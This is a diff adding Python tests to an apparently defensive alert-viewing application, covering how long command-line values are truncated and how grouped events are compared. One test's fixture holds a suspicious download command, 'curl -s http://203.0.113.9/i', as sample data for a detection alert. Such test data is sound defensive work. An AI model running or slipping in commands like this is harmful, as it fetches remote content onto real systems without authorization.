@@ -223,3 +223,22 @@ class TestARow:
         assert alert.kind == Kind.ROW
         assert "The query was run over" in page
         assert "this event's row came out of it" in page
+
+
+def test_a_very_long_value_is_cut_beside_the_clause_that_it_met_and_whole_among_the_fields(
+    ana: Client, rules: World
+) -> None:
+    alert = rows.long_download(rules, "y" * 20_000)
+    page = source(ana, f"/alerts/{alert.pk}/")
+    met = page.split("process.command_line is present")[1].split("</td>")[0]
+    assert re.search(r"<mark><bdi>curl -s http://203.0.113.9/i y{371}</bdi><details class=\"folded\">", met)
+    assert "y" * 19_000 in source(ana, f"/alerts/{alert.pk}/?facts=all")
+
+
+def test_what_differs_says_which_event_of_a_group_was_compared(ana: Client, shipped: World) -> None:
+    other = rows.burst(shipped, rows.COMMANDS[::-1], process__parent__entity_id="python-2")
+    rows.raised(shipped, [*rows.burst(shipped), *other], rows.SEED)
+    before, later = Alert.objects.filter(rule_id=rows.SEED).order_by("pk")
+    shipped.close([before])
+    page = told(ana, later)
+    assert re.search(r"Different this time in the last event, beside the last of each of them .*before:", page)
